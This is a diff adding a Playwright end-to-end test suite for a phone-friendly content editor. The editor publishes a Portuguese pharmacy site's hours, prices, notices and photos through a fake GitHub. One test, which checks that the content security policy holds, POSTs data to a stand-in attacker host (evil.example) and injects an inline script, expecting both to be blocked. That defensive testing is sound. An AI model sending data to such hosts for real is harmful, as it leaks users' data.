@@ -1,0 +1,208 @@
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect, type Page, test } from '@playwright/test';
+import { writeEditorPage } from '../../build/editor-page.ts';
+import { phonePhotograph } from '../photograph.ts';
+import { type Site, startSite } from '../site.ts';
+import { FakeGitHub, filesOf, KEYS, REPOSITORY } from './github.ts';
+
+/** The editor that a site has at /editar, served as in production, and GitHub over a real repository. */
+let github: FakeGitHub;
+let site: Site;
+const dist = mkdtempSync(join(tmpdir(), 'telemovel-'));
+
+test.use({ viewport: { width: 360, height: 740 }, hasTouch: true });
+
+test.beforeAll(async () => {
+  github = await FakeGitHub.start(filesOf('exemplos/demonstracao'));
+  for (const page of ['index', '404'])
+    writeFileSync(join(dist, `${page}.html`), `<!doctype html><title>${page}</title>`);
+  writeFileSync(join(dist, '_headers'), readFileSync('hosting/_headers'));
+  writeFileSync(join(dist, 'prefetch.speculationrules'), '{}');
+  writeFileSync(join(dist, 'favicon.svg'), '<svg xmlns="http://www.w3.org/2000/svg"/>');
+  Object.assign(process.env, { EDITAR_API: github.url, NETLIFY: 'true' });
+  await writeEditorPage(dist, REPOSITORY, 155);
+  site = await startSite(dist);
+});
+
+test.afterAll(() => {
+  site.stop();
+  github.stop();
+  rmSync(dist, { recursive: true });
+});
+
+const complaints: string[] = [];
+
+test.beforeEach(({ page }) => {
+  github.fault = () => undefined;
+  github.reset();
+  complaints.length = 0;
+  page.on('pageerror', (error) => complaints.push(error.message));
+  page.on(
+    'console',
+    (message) => message.type() === 'error' && complaints.push(`${message.text()} ${message.location().url}`),
+  );
+});
+
+/** Opens the editor with a key that was pasted before. */
+async function open(page: Page): Promise<void> {
+  await page.addInitScript(
+    (key) => localStorage.setItem('editor:chave', JSON.stringify({ key, until: '2099-01-01' })),
+    KEYS.writes,
+  );
+  await page.goto(`${site.url}/editar`);
+  await expect(page.getByRole('navigation').getByRole('link').first()).toBeVisible();
+}
+
+const choose = (page: Page, topic: string) => page.getByRole('navigation').getByRole('link', { name: topic }).click();
+const field = (page: Page, id: string) => page.locator(`[data-campo="${id}"]`);
+const publish = (page: Page) => page.getByRole('main').getByRole('button', { name: 'Publicar', exact: true });
+const status = (page: Page) => page.getByRole('main').getByRole('status').last();
+
+test('an owner pastes the key once, and it is forgotten by one press', async ({ page }) => {
+  await page.goto(`${site.url}/editar`);
+  const key = page.getByLabel('A chave', { exact: true });
+  const begin = page.getByRole('button', { name: 'Começar' });
+  await key.fill(`ghp_${'x'.repeat(36)}`);
+  await begin.click();
+  await expect(page.getByText('Esta chave abre tudo o que é seu')).toBeVisible();
+  await expect(page.getByText('Falta o último dia')).toBeVisible();
+  await key.fill(KEYS.reads);
+  await page.getByLabel('O último dia da chave').fill('2099-01-01');
+  await begin.click();
+  await expect(page.getByText('Esta chave não pode escrever')).toBeVisible();
+  await key.fill(KEYS.writes);
+  await begin.click();
+  await expect(page.getByRole('navigation').getByRole('link').first()).toHaveText('Avisos');
+  expect(await page.locator('html').innerHTML()).not.toContain(KEYS.writes);
+  await page.getByRole('button', { name: 'Publicar', exact: true }).click();
+  await expect(page.getByText('abre o site até 01/01/2099')).toBeVisible();
+  page.on('dialog', (dialog) => dialog.accept());
+  await page.getByRole('button', { name: 'Esquecer a chave' }).click();
+  await expect(page.getByLabel('A chave', { exact: true })).toBeVisible();
+  expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain('github_pat_');
+  complaints.splice(0, complaints.length, ...complaints.filter((text) => !/status of 403/.test(text)));
+  expect(complaints).toEqual([]);
+});
+
+test('an owner changes Saturday’s hours, a price and a notice, and sees them published', async ({ page }) => {
+  await open(page);
+  await choose(page, 'Horas');
+  await field(page, 'horario.yaml:aberturas.sabado[0].fecha').fill('18h30');
+  await page.getByRole('button', { name: 'Escolher' }).click();
+  await choose(page, 'Aluguer');
+  await field(page, 'aluguer.yaml:[0].precoDia').fill('1,20');
+  await page.getByRole('button', { name: 'Escolher' }).click();
+  await choose(page, 'Avisos');
+  await page.getByRole('button', { name: 'Novo aviso' }).click();
+  await field(page, 'avisos.json:[0].texto').fill('Sábado fechamos mais cedo.');
+  await field(page, 'avisos.json:[0].de').fill('2099-12-26');
+  await expect(page.getByText('26 de dezembro de 2099').first()).toBeVisible();
+  await publish(page).click();
+  for (const sentence of ['18:30', 'para 1,20', 'Entra «Sábado fechamos mais cedo.»'])
+    await expect(page.getByRole('main').getByText(sentence)).toBeVisible();
+  await publish(page).click();
+  await expect(status(page)).toContainText('A publicar… Está no GitHub');
+  expect(github.log()[0]).toBe('Muda «Horas», «Aluguer» e «Avisos», pelo telemóvel');
+  expect(github.read('content/aluguer.yaml')).toContain('precoDia: 120');
+  expect(github.read('content/horario.yaml')).toContain('fecha: "18:30"');
+  // The host has built it.
+  writeFileSync(join(dist, 'editar/versao.txt'), github.head);
+  await expect(status(page)).toHaveText('Publicado: o site já mostra as mudanças.', { timeout: 20_000 });
+  await expect(page.getByText('Nada por publicar')).toBeVisible();
+  expect(complaints).toEqual([]);
+});
+
+test('what is typed stays when the telephone rings, without a line, and with a mistake', async ({ page, context }) => {
+  await open(page);
+  await choose(page, 'Aluguer');
+  await field(page, 'aluguer.yaml:[0].precoDia').fill('0,04');
+  await field(page, 'aluguer.yaml:[0].precoDia').blur();
+  await expect(page.locator('[id="aluguer.yaml:[0].precoDia-mistake"]')).toContainText('um preço em euros');
+  await publish(page).click();
+  await expect(page.getByText('falta corrigir')).toBeVisible();
+  await page
+    .getByRole('main')
+    .getByRole('link', { name: /Preço por dia/ })
+    .click();
+  await field(page, 'aluguer.yaml:[0].precoDia').fill('1,40');
+  page.on('dialog', (dialog) => dialog.accept());
+  await page.reload();
+  await choose(page, 'Aluguer');
+  await expect(field(page, 'aluguer.yaml:[0].precoDia')).toHaveValue('1,40');
+  await publish(page).click();
+  await context.setOffline(true);
+  await publish(page).click();
+  await expect(status(page)).toContainText('Sem ligação à internet');
+  await context.setOffline(false);
+  await publish(page).click();
+  await expect(status(page)).toContainText('Está no GitHub');
+  expect(github.read('content/aluguer.yaml')).toContain('precoDia: 140');
+});
+
+test('what a colleague changed too is asked about, and nothing else', async ({ page }) => {
+  await open(page);
+  await choose(page, 'Aluguer');
+  await field(page, 'aluguer.yaml:[0].precoDia').fill('1,50');
+  const theirs = github.read('content/aluguer.yaml').replace('precoDia: 100', 'precoDia: 170');
+  github.commit({ 'content/aluguer.yaml': theirs });
+  await publish(page).click();
+  await publish(page).click();
+  await expect(page.getByRole('heading', { name: 'Alguém mudou o mesmo entretanto' })).toBeVisible();
+  await page.getByRole('button', { name: 'Ficar com o meu' }).click();
+  await expect(status(page)).toContainText('Está no GitHub');
+  expect(github.read('content/aluguer.yaml')).toContain('precoDia: 150');
+});
+
+test('a photograph is made small and loses its place before it leaves', async ({ page }) => {
+  await open(page);
+  await choose(page, 'A farmácia');
+  await page.getByLabel('Mostrar no site: Fotografias').click();
+  await page.getByRole('switch', { name: /A farmácia por fora/ }).click();
+  const chosen = page.getByLabel(/Escolher no computador/).first();
+  await chosen.setInputFiles({ name: 'IMG_0042.jpg', mimeType: 'image/jpeg', buffer: await phonePhotograph() });
+  await expect(page.getByText('copiada como «img-0042.jpg»')).toBeVisible();
+  await page
+    .getByLabel(/O que se vê/)
+    .first()
+    .fill('A montra na praça, com a cruz acesa');
+  await publish(page).click();
+  await publish(page).click();
+  await expect(status(page)).toContainText('Está no GitHub');
+  const sent = github.bytes('content/fotografias/img-0042.jpg');
+  expect(sent.subarray(0, 2).toString('hex')).toBe('ffd8');
+  expect(sent.toString('latin1')).not.toMatch(/Exif|GPS/);
+});
+
+test('nobody can frame it, and it speaks to nobody else', async ({ page }) => {
+  const answer = await page.request.get(`${site.url}/editar`);
+  expect(answer.headers()['content-security-policy']).toBe("frame-ancestors 'none'");
+  await open(page);
+  const refused = await page.evaluate(() =>
+    Promise.all([
+      fetch('https://evil.example/', { method: 'POST', body: 'x' }).then(
+        () => 'sent',
+        () => 'refused',
+      ),
+      new Promise((resolve) => {
+        document.addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
+        document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.evil = 1' }));
+      }).catch(() => 'refused'),
+    ]),
+  );
+  expect(refused[0]).toBe('refused');
+  expect(await page.evaluate(() => 'evil' in window)).toBe(false);
+});
+
+test('everything fits at 320 pixels, with letters of 200 %, and can be tapped', async ({ page }) => {
+  await page.setViewportSize({ width: 320, height: 640 });
+  await open(page);
+  await page.addStyleTag({ content: ':root { font-size: 200% }' }).catch(() => {});
+  for (const topic of ['Avisos', 'Horas', 'Aluguer']) {
+    await page.getByRole('button', { name: 'Escolher' }).click();
+    await choose(page, topic);
+    const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
+    expect(wide, topic).toBeLessThanOrEqual(0);
+  }
+});
